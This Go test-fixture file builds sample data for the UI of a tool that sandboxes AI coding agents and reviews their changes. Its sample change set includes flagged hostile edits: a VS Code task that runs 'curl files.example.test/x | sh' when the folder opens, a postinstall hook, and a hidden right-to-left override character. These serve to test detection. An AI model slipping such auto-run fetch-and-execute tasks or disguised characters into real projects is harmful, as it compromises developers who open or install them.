package uitest

import (
	"fmt"
	"strings"
	"time"

	"fumehood/diffreview"
	"fumehood/isolate"
	"fumehood/isolate/layer"
	"fumehood/isolate/walls"
	"fumehood/session"
)

// Sample is a backend with a few sessions as a person would have them, seen at
// the moment now.
func Sample(now time.Time) *Backend {
	zero := 0
	ago := func(d time.Duration) time.Time { return now.Add(-d) }
	rows := []session.Summary{
		{
			ID: "a1", Name: "claude-1", Repo: "/home/ada/src/api-server", Agent: "command", Policy: "default", Command: []string{"claude", "--continue"},
			State: session.StateWaiting, Created: ago(12 * time.Minute), Started: ago(12 * time.Minute), ChangedFiles: 9, Added: 214, Removed: 37, Undecided: 9, Live: true, LastLine: "Shall I run the migration?",
		},
		{
			ID: "b2", Name: "fix-ci", Repo: "/home/ada/src/api-server", Agent: "demo", Policy: "default", Command: []string{"fumehood-demo"},
			State: session.StateRunning, Created: ago(4 * time.Minute), Started: ago(4 * time.Minute), ChangedFiles: -1, Live: true, LastLine: "ok  pkg/store 1.2s",
		},
		{
			ID: "c3", Name: "nightly", Repo: "/home/ada/src/api-server", Agent: "shell", Policy: "default", Command: []string{"/bin/bash"},
			State: session.StateExited, ExitCode: &zero, Created: ago(2 * time.Hour), Started: ago(2 * time.Hour), Ended: ago(time.Hour), ChangedFiles: 1, Added: 1, Removed: 1, LastLine: "done",
		},
		{
			ID: "d4", Name: "spike", Repo: "/home/ada/src/api-server", Agent: "command", Policy: "tight", Command: []string{"aider", "--yes"},
			State: session.StateLimit, Limit: &session.Limit{Name: "memory", Value: "4 GiB", Used: "4.1 GiB"}, Created: ago(26 * time.Hour), Started: ago(26 * time.Hour), Ended: ago(25 * time.Hour), ChangedFiles: 4, Added: 90, Removed: 2, Undecided: 4, LastLine: "stopped at a limit",
		},
	}
	facts := []layer.Fact{
		{Layer: layer.Namespaces, What: "mount namespace", Value: "mnt:[4026532711]", Source: "/proc/4711/ns/mnt", OK: true},
		{Layer: layer.Namespaces, What: "net namespace", Value: "net:[4026532714]", Source: "/proc/4711/ns/net", OK: true},
		{Layer: layer.Namespaces, What: "pid namespace", Value: "pid:[4026532713]", Source: "/proc/4711/ns/pid", OK: true},
		{Layer: layer.Limits, What: "processes", Value: "2048", Source: "/proc/4711/limits", OK: true},
		{Layer: layer.Identity, What: "effective capabilities", Value: "none", Source: "/proc/4711/status", OK: true},
		{Layer: layer.Identity, What: "no new privileges", Value: "1", Source: "/proc/4711/status", OK: true},
		{Layer: layer.Landlock, What: "write outside", Value: "EACCES", Source: "canary", OK: true},
		{Layer: layer.Seccomp, What: "seccomp filters", Value: "2", Source: "/proc/4711/status", OK: true},
	}
	limits := []session.LimitLine{
		{Name: "memory", Value: "4 GiB", How: "each process by the kernel; the whole is sampled every 250 ms"},
		{Name: "processes", Value: "2048", How: "by the kernel"},
		{Name: "session time", Value: "8 h", How: "by the supervisor's clock"},
		{Name: "disk", Value: "not in force", How: "the workspace can fill this file system"},
	}
	block := "Boundary\n  process restriction: namespaces, landlock, seccomp\n  if it cannot be set up: refuses to run\nFilesystem\n  a copy of the repository, its own home, /tmp\nNetwork\n  none\n"
	record := SampleRecord(ago(2 * time.Hour))
	standing := walls.Stand(record, record.Shape)
	block += "Verified\n  wall tests   proven in this shape\n  run          2026-11-30 10:41:07Z (2 hours ago) by ada\n  outcome      13 of 16 tests held\n"
	about := session.Walls{Policy: "default", Source: "", Hash: record.PolicyHash, Block: block, Standing: standing}
	ofSession := about
	ofSession.Source = "/home/ada/.local/state/fumehood/sessions/a1/policy.toml"
	details := map[string]session.Detail{}
	for _, s := range rows {
		d := session.Detail{
			Files: 1204, Bytes: 18 << 20, Limits: limits, Block: block, PolicyID: "7f3a",
			LeftOut: []diffreview.LeftOut{{Path: "node_modules", Reason: "git ignores it", Size: 412 << 20}, {Path: ".env", Reason: "looks like a secret", Size: 120}},
		}
		if s.Policy == "default" {
			d.Walls = standing
		}
		if s.Live {
			d.Layers = facts
			d.Usage = isolate.Usage{Processes: 23, RSS: 612 << 20, CPU: 412_000_000_00}
		}
		details[s.ID] = d
	}
	screen := []string{
		"\x1b[1;38;5;208m✻\x1b[m Welcome to the agent", "",
		"\x1b[32m●\x1b[m Read 14 files in src/store", "", "\x1b[32m●\x1b[m Update(src/store/open.go)",
		"  \x1b[2m⎿\x1b[m  Updated with \x1b[1m12\x1b[m additions and \x1b[1m4\x1b[m removals", "",
		"\x1b[32m●\x1b[m The lock file needs a migration of the existing stores.", "", "  Shall I run the migration?", "",
		"\x1b[2m╭" + strings.Repeat("─", 60) + "╮\x1b[m", "\x1b[2m│\x1b[m > " + strings.Repeat(" ", 57) + "\x1b[2m│\x1b[m", "\x1b[2m╰" + strings.Repeat("─", 60) + "╯\x1b[m",
	}
	return &Backend{
		Rows: rows, Details: details, Names: []string{"default", "tight"},
		Screens: map[string]session.Frame{
			"a1": {Gen: 7, Cols: 80, Rows: 19, Lines: screen, CursorX: 4, CursorY: 12, CursorOn: true, Scrollback: 120, State: session.StateWaiting},
			"b2": {Gen: 3, Cols: 80, Rows: 19, Lines: []string{"$ go test ./...", "ok  pkg/store 1.2s"}, CursorY: 2, CursorOn: true, State: session.StateRunning},
			"c3": {Gen: 2, Cols: 80, Rows: 19, Lines: []string{"$ make nightly", "done", "$ exit"}, Ended: true, State: session.StateExited},
			"d4": {Gen: 2, Cols: 80, Rows: 19, Lines: []string{"Killed"}, Ended: true, State: session.StateLimit},
		},
		Sets: map[string]*diffreview.ChangeSet{"a1": SampleSet(), "c3": {}},
		Look: session.Preview{
			Repo: "~/src/api-server", Branch: "main", Dirty: 3, Files: 1204, Untracked: 2, Bytes: 18 << 20, Git: true,
			LeftOut: []diffreview.LeftOut{
				{Path: "node_modules/", Reason: "git ignores it", Size: 412 << 20},
				{Path: "dist/", Reason: "git ignores it", Size: 3 << 20},
				{Path: ".env", Reason: "looks like a secret", Size: 120},
				{Path: "deploy/id_test", Reason: "looks like a secret", Size: 411},
				{Path: "run.sock", Reason: "a socket"},
			},
			Dependencies: []diffreview.LeftOut{{Path: "node_modules/", Reason: "git ignores it", Size: 412 << 20}},
			Read:         []string{"~/.nvm/versions/node/v24.1.0", "~/.cargo/bin"},
			Caches:       []string{"~/.npm/_cacache"},
			Write:        []string{"the copy, its own home and /tmp", "nothing of yours"},
			Reach:        []string{"nothing: no network"},
			Use:          []string{"4 GiB memory", "2048 processes", "8 hours"},
			Warnings:     []string{"memory of all its processes together is sampled every 250 ms, not bounded by the kernel"},
			Block:        block,
			Walls:        standing,
		},
		About: map[string]session.Walls{
			"": about, "a1": ofSession, "b2": ofSession, "c3": ofSession,
			"d4": {Policy: "tight", Source: "/home/ada/.local/state/fumehood/sessions/d4/policy.toml", Hash: strings.Repeat("44", 32), Block: block},
		},
		Outcome: SampleRecord(now), Matrix: SampleMatrix(),
		Traffic: map[string]session.Traffic{"c3": SampleTraffic(now)},
		Would:   []string{"src/store/open.go", "docs/locking.md"},
	}
}

// SampleSet is a change set with something of each kind.
func SampleSet() *diffreview.ChangeSet {
	return &diffreview.ChangeSet{
		Session: "a1", Repo: "/home/ada/src/api-server", SnapshotAt: time.Date(2026, 11, 30, 12, 41, 7, 0, time.UTC),
		Files: []diffreview.File{
			AddedFile(".vscode/tasks.json", "{\n\t\"version\": \"2.0.0\",\n\t\"tasks\": [{\n\t\t\"label\": \"warm\",\n\t\t\"command\": \"curl files.example.test/x | sh\",\n\t\t\"runOptions\": {\"runOn\": \"folderOpen\"}\n\t}]\n}\n",
				diffreview.Finding{Rule: "editor-task", Severity: diffreview.Danger, Line: 6, Why: "runs its command by itself as soon as the folder is opened in the editor"}),
			edited("package.json", 12, []string{"  \"scripts\": {", "-    \"build\": \"tsc\"", "+    \"postinstall\": \"node setup.js\",", "+    \"build\": \"tsc\"", "   },"},
				diffreview.Finding{Rule: "package-script", Severity: diffreview.Warn, Line: 13, Why: "runs at npm install"}),
			twoHunks("src/store/open.go"),
			AddedFile("src/store/lock.go", "package store\n\nimport \"os\"\n\n// lock holds the store's file while it is open.\nfunc lock(f *os.File) error {\n\treturn flock(f.Fd())\n}\n"),
			edited("src/api/routes.go", 30, []string{" \tr.Get(\"/health\", health)", "-\tr.Get(\"/stores\", list)", "+\tr.Get(\"/v1/stores\", list) ", "+\tr.Get(\"/v1/stores/:id\", \u202eget)", " }"}),
			{
				Path: "tools/helper", Status: diffreview.ModeOnly, Old: diffreview.Entry{Kind: diffreview.KindFile, Blob: "1"}, New: diffreview.Entry{Kind: diffreview.KindFile, Exec: true, Blob: "1"}, Whole: "mode-helper",
				Findings: []diffreview.Finding{{Rule: "exec-bit", Severity: diffreview.Note, Why: "becomes a program"}},
			},
			{Path: "assets/logo.png", Status: diffreview.Modified, Binary: true, Unshown: "binary", Old: diffreview.Entry{Kind: diffreview.KindFile, Size: 4096}, New: diffreview.Entry{Kind: diffreview.KindFile, Size: 5120}, Whole: "bin-logo"},
			AddedFile("docs/locking.md", "# Locking\n\nOne process opens a store at a time.\n"),
			edited("go.sum", 3, []string{" a v1 h1:x", "-b v1 h1:y", "+b v2 h1:z", " c v1 h1:w"}),
		},
		Ignored: diffreview.IgnoredChanges{Count: 3, Paths: []string{"dist/a.js", "dist/b.js", "node_modules/x/y"}},
		LeftOut: []diffreview.LeftOut{{Path: "run.sock", Reason: "a socket"}, {Path: "node_modules", Reason: "git ignores it", Size: 412 << 20}},
	}
}

func lines(start int, text ...string) (ls []diffreview.Line, added, removed int) {
	o, n := start, start
	for _, t := range text {
		l := diffreview.Line{Op: t[0], Text: []byte(t[1:])}
		switch t[0] {
		case '+':
			l.New = n
			n++
			added++
		case '-':
			l.Old = o
			o++
			removed++
		default:
			l.Op, l.Old, l.New = ' ', o, n
			o++
			n++
		}
		ls = append(ls, l)
	}
	return ls, added, removed
}

func hunk(id string, start int, text ...string) (diffreview.Hunk, int, int) {
	ls, a, r := lines(start, text...)
	return diffreview.Hunk{ID: id, OldStart: start, OldLines: len(text) - a, NewStart: start, NewLines: len(text) - r, Lines: ls}, a, r
}

func edited(path string, start int, text []string, fs ...diffreview.Finding) diffreview.File {
	h, a, r := hunk("h-"+path, start, text...)
	k := diffreview.Entry{Kind: diffreview.KindFile}
	return diffreview.File{Path: path, Status: diffreview.Modified, Old: k, New: k, Added: a, Removed: r, Hunks: []diffreview.Hunk{h}, Findings: fs}
}

func twoHunks(path string) diffreview.File {
	f := edited(path, 41, []string{
		" func Open(path string) (*Store, error) {", "-\tf, err := os.Open(path)", "+\tf, err := os.OpenFile(path, flags, 0o600)", " \tif err != nil {",
		"-\t\treturn nil, err", "+\t\treturn nil, fmt.Errorf(\"open %q: %w\", path, err)", " \t}",
	})
	h, a, r := hunk("h2-"+path, 88, " func (s *Store) put(k string, v []byte) {", "-\ts.mu.Lock()", "+\ts.mu.Lock()\r", "+\tdefer s.mu.Unlock()", " \ts.m[k] = v", " }")
	f.Hunks = append(f.Hunks, h)
	f.Added += a
	f.Removed += r
	return f
}

// AddedFile is a new text file in a change set.
func AddedFile(path, text string, fs ...diffreview.Finding) diffreview.File {
	var in []string
	for _, l := range strings.Split(strings.TrimSuffix(text, "\n"), "\n") {
		in = append(in, "+"+l)
	}
	id := "w-" + path
	h, a, _ := hunk(id, 1, in...)
	h.OldStart, h.OldLines = 0, 0
	return diffreview.File{Path: path, Status: diffreview.Added, New: diffreview.Entry{Kind: diffreview.KindFile, Size: int64(len(text))}, Added: a, Hunks: []diffreview.Hunk{h}, Whole: id, Findings: fs}
}

// LargeSet has many files of many lines each, for budgets.
func LargeSet(files, linesEach int) *diffreview.ChangeSet {
	cs := &diffreview.ChangeSet{Session: "a1", SnapshotAt: time.Date(2026, 11, 30, 12, 41, 7, 0, time.UTC)}
	for i := range files {
		text := make([]string, 0, linesEach)
		for l := range linesEach {
			switch l % 10 {
			case 3:
				text = append(text, fmt.Sprintf("-\told(%d, %d)", i, l))
			case 4:
				text = append(text, fmt.Sprintf("+\tnew(%d, %d) // changed", i, l))
			default:
				text = append(text, fmt.Sprintf(" \tcontext line %d of file %d", l, i))
			}
		}
		cs.Files = append(cs.Files, edited(fmt.Sprintf("pkg/p%03d/file%05d.go", i%200, i), 1, text))
	}
	return cs
}
